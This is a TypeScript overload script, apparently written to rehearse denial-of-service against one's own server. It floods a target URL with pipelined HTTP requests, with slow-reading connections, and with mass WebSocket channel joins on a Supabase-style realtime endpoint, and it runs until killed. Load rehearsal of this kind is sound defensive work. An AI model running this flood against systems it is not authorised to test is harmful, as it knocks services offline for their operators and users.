import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { WebSocket } from 'ws'

/**
 * Attacks a server from another of this machine's IP addresses until this process is killed: `node --import tsx
 * rehearsals/overload/attack.ts pipelined http://127.0.0.1:3000`
 */
const localAddress = '127.0.0.2'
const [name = '', url = ''] = process.argv.slice(2)
const { hostname: host, port } = new URL(url)

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`

/** Opens connections again and again; each connection sends all its requests at once. */
async function sendBursts(connections: number, bytes: string, read: (socket: Socket) => void) {
  const keepOpen = async () => {
    for (;;) {
      const socket = connect({ host, port: Number(port), localAddress }).on('error', () => {})
      const closed = new Promise((resolve) => socket.once('close', resolve))
      read(socket)
      socket.write(bytes)
      await closed
    }
  }
  await Promise.all(Array.from({ length: connections }, keepOpen))
}

/** Opens a socket with the publishable key, and joins a channel with each message. */
async function join(joins: number) {
  for (;;) {
    const address = `ws://${host}:${port}/realtime/v1/websocket?apikey=sb_publishable_visitors&vsn=2.0.0`
    const socket = new WebSocket(address, { localAddress }).on('error', () => {})
    const closed = new Promise((resolve) => socket.once('close', resolve))
    await Promise.race([once(socket, 'open'), closed])
    const changes = [{ event: '*', schema: 'public', table: 'strategy_call_bookings' }]
    for (let ref = 0; ref < joins && socket.readyState === WebSocket.OPEN; ref++) {
      const payload = { config: { postgres_changes: changes } }
      socket.send(JSON.stringify([`${ref}`, `${ref}`, `realtime:${ref}`, 'phx_join', payload]))
    }
    await closed
  }
}

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  /** Twenty connections send 5,000 requests each without waiting for a response. */
  pipelined: () => sendBursts(20, get('/healthz').repeat(5000), (socket) => socket.resume()),
  /** Twenty connections request the home page 5,000 times each, without reading the responses. */
  'slow-readers': () => sendBursts(20, get('/').repeat(5000), (socket) => socket.pause()),
  joins: () => join(10_000),
}

await attacks[name]?.()
